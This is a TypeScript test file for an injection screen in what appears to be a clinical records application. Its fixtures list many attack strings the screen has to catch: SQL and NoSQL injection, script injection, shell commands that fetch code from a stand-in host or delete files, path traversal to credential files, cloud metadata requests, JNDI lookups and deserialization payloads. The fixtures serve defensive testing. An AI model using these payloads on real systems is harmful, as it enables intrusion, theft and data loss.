import { afterAll, describe, expect, it } from 'vitest';
import { INJECTION_RULES } from '../../../contracts/route-inspection.ts';
import type { Reading } from '../../../inspection/injection/rule.ts';
import { RULES } from '../../../inspection/injection/rules/index.ts';
import { Screen } from '../../../inspection/injection/screen.ts';

const screen = new Screen();
afterAll(() => screen.close());

const judged = (reading: Reading, text: string): string | undefined =>
  screen.first([], (sink) => sink('/', reading, text))?.rule;

/** What each kind of attack looks like, in words of our own; the reason says what a back end would do with it. */
const HOSTILE: readonly [reason: string, text: string][] = [
  ['reads another table', "7 union all select login, pass from staff where 'a'='a"],
  ['is always true', "x' or 'q'='q"],
  ['is always true, without quotes', '5 or 3=3 --'],
  ['closes the text and comments out the rest', "ada' --"],
  ['a second statement', '1; drop table visits --'],
  ['waits, to tell by time', "1' and sleep(7) and '1'='1"],
  ['reads the schema', 'x from information_schema.columns'],
  ['writes a file', "x' into outfile '/srv/www/a.php"],
  ['in a comment that MySQL runs', '1 /*!50000or*/ 2=2'],
  ['split by comments', '1 un/**/ion sel/**/ect 2'],
  ['encoded once more', '1%27%20or%20%271%27%3D%271'],
  ['in full-width letters', '１＇ ｏｒ ＇１＇＝＇１'],
  ['asks a document database for anything', '{"$ne": ""}'],
  ['runs code in a document database', "'; return this.a == 'b"],
  ['changes what all objects inherit', '__proto__[admin]'],
  ['runs in the page', '<script>fetch(1)</script>'],
  ['runs when a picture is missing', '<img src=x onerror=go(1)>'],
  ['runs when it is clicked', '<a href="javascript:go()">x</a>'],
  ['in entities', '&lt;script&gt;go()&lt;/script&gt;'],
  ['in escapes of JavaScript', '\\u003cscript\\u003ego()\\u003c/script\\u003e'],
  ['another command', 'a.txt; cat /etc/passwd'],
  ['another command by substitution', '$(curl http://198.51.100.7/x)'],
  ['a command in quotes that a shell drops', "a; c'a't /e't'c/hosts"],
  ['a command in white space of a shell', 'cat$IFS/etc/hosts'],
  ['a pipe into a shell', 'x | bash'],
  ['a command of Windows', 'x & certutil -urlcache -f http://198.51.100.7/x'],
  ['leaves the folder', '../../conf/users.xml'],
  ['leaves the folder, encoded', '..%2f..%2fconf'],
  ['a file of the system', '/etc/shadow'],
  ['a file of the system, on Windows', 'C:\\windows\\win.ini'],
  ['asks the cloud for its keys', 'http://169.254.169.254/latest/meta-data/'],
  ['has the server ask itself', 'http://127.0.0.1:8080/manager'],
  ['includes a page from elsewhere', 'https://evil.example/shell.txt'],
  ['reads source by a filter', 'php://filter/convert.base64-encode/resource=index'],
  ['is evaluated by a template', '{{7*7}}'],
  ['is evaluated by an expression language', '${7*7}'],
  ['is evaluated by a template of Ruby', '<%= 7*7 %>'],
  ['is PHP', '<?php echo 1; ?>'],
  ['calls a function of PHP', 'passthru($x)'],
  ['becomes an object of PHP', 'O:4:"User":1:{s:4:"role";i:1;}'],
  ['becomes an object of Java', 'rO0ABXNyABFqYXZh'],
  ['looks something up by JNDI', '${jndi:ldap://198.51.100.7/a}'],
  ['the same, taken apart', '${${lower:j}ndi:ldap://198.51.100.7/a}'],
  ['reaches a class', "T(java.lang.Runtime).getRuntime().exec('id')"],
  ['runs in Node', "require('child_process').exec('id')"],
  ['begins another header', 'x\r\nSet-Cookie: a=b'],
  ['a command for a mail server', 'x\r\nRCPT TO:<a@b.example>'],
];

const ORDINARY: readonly string[] = [
  'Ada Example',
  "O'Brien",
  "D'Angelo & Sons",
  'Ménière’s disease',
  '12 High Street, Flat 3/4',
  '+00 555 0100',
  'ada.example@clinic.example',
  'chart.pdf',
  '120/80',
  'A+; NKDA',
  'Follow up in 2 weeks, sooner if worse.',
  'follow-up with Dr. Example (cardiology)',
  'left knee - swelling since Monday',
  'Room 12B',
  'yes',
  'and',
  'order by phone',
  '50%',
  '#3',
  'Smith-Jones',
  'what time is the appointment?',
  'en-GB',
  '3.5 mg/kg',
  'https',
];

describe('a plain value of an old application', () => {
  it.each(HOSTILE)('%s: %s', (_, text) => {
    expect(judged('parameter', text)).toBeDefined();
  });

  it.each(ORDINARY.filter((text) => text !== 'https'))('is not refused for being %s', (text) => {
    expect(judged('parameter', text)).toBeUndefined();
  });
});

describe('clinical prose', () => {
  it.each([
    'select drop in BP; union of fracture',
    'pt c/o pain -- onset 2 d ago',
    '<5 mg',
    "pt's mother's BP <120 & >90; 'fine' or 'ok'",
    '1 or 2 tabs; drop table salt',
    'see https://clinic.example/leaflet?id=3',
    'sleep (5 h) broken; exec function declining',
  ])('is not refused for %s', (text) => {
    expect(judged('clinical', text)).toBeUndefined();
  });

  it.each([
    "x' or '1'='1",
    '1 union all select login, pass from staff',
    "x'; drop table visits; --",
    '<script>go()</script>',
    '<img src=x onerror=go()>',
    '<svg/onload=go()>',
    'javascript:go()',
    '$(curl http://198.51.100.7/x)',
    'x; rm -rf /',
    '../../../etc/passwd',
    '${jndi:ldap://198.51.100.7/a}',
    '{{7*7}}',
    '<?php echo 1; ?>',
    'O:4:"User":1:{s:4:"role";i:1;}',
    'http://169.254.169.254/latest/meta-data/',
  ])('is refused where it is none: %s', (text) => {
    expect(judged('clinical', text)).toBeDefined();
  });
});

describe('a narrative', () => {
  const inDiv = (inside: string) => `<div xmlns="http://www.w3.org/1999/xhtml">${inside}</div>`;

  it.each([
    '<p style="color: red">BP &lt; 90 &amp; HR &gt; 100</p>',
    '<a href="https://clinic.example/">leaflet</a>',
    '<img src="#picture" alt="x"/>',
    '<table border="1"><tr><td>&lt;script&gt; sent to pharmacy</td></tr></table>',
  ])('may hold %s', (inside) => {
    expect(judged('narrative', inDiv(inside))).toBeUndefined();
  });

  it.each([
    '<script>go()</script>',
    '<p onclick="go()">x</p>',
    '<a href="javascript:go()">x</a>',
    '<iframe src="https://clinic.example/"></iframe>',
    '<p style="background: url(javascript:go())">x</p>',
    '<object data="x"></object>',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "z">]>',
  ])('may not hold %s', (inside) => {
    expect(judged('narrative', inDiv(inside))).toBeDefined();
  });
});

describe('what pages and people write in fields', () => {
  it.each([
    'add-event',
    'export-csv',
    'trace-json',
    'search-list',
    'union-health-center',
    'name desc, birthdate asc',
    'c/o Example Clinic; attn: records',
    '(555) 010-0199 ext. 4',
    'urn:oid:2.16.840.1.113883.19.5',
    'Europe/Berlin',
    '{"draw":1,"start":0,"length":10}',
    '/interface/main/main_screen.php?auth=login&site=default',
    'Select...',
    'select one from the list',
    'delete this note?',
    'take 1 or 2 tablets',
    'dog bite; cat scratch',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36',
    'HAPI-FHIR/6.4.0 (FHIR Client; FHIR 4.0.1/R4; apache)',
    'She said "it hurts" and \'burns\'',
  ])('%s is nothing to refuse', (text) => expect(judged('parameter', text)).toBeUndefined());

  it.each([
    '; get-process',
    'get-content $env:x',
    'invoke-expression (x)',
    'remove-item -recurse',
    'get-content c:',
    'export-csv x -path',
    'get-process | stop-process',
  ])('%s is a command', (text) => expect(judged('parameter', text)).toBe('command-windows'));
});

describe('names of files', () => {
  it.each([
    'shell.php',
    'a.php5',
    'photo.jpg.php',
    'x.jsp.',
    '.htaccess',
    '../x.pdf',
    'a.phtml ',
    'x;.asp',
    'wp-config.php.bak',
  ])('%s is refused', (name) => expect(judged('file', name)).toBeDefined());
  it.each(['scan 12.pdf', 'Röntgen.jpg', 'report-2026.11.22.docx', 'letter (2).txt', 'ecg.xml'])(
    '%s is not',
    (name) => expect(judged('file', name)).toBeUndefined(),
  );
});

describe('the list of rules', () => {
  it('has expressions for every identifier, and no others', () => {
    expect([...new Set(RULES.map(({ id }) => id))].sort()).toEqual([...INJECTION_RULES].sort());
  });
});
